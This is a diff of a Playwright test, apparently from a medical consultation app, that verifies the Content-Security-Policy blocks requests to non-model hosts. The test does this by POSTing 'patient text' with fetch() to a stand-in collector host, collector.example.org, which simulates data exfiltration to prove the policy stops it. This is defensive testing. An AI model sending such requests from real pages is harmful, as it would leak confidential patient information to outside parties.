@@ -23,7 +23,9 @@ test('no request made during a consultation carries the message text', async ({ 
 test('the Content-Security-Policy blocks the page from sending anything to a host that is not a model host', async ({ page }) => {
   await page.goto('./');
   const violation = await page.evaluate(async () => {
-    const seen = new Promise<string>((resolve) => document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true }));
+    const seen = new Promise<string>((resolve) =>
+      document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true }),
+    );
     await fetch('https://collector.example.org/log', { method: 'POST', body: 'patient text' }).catch(() => undefined);
     return seen;
   });
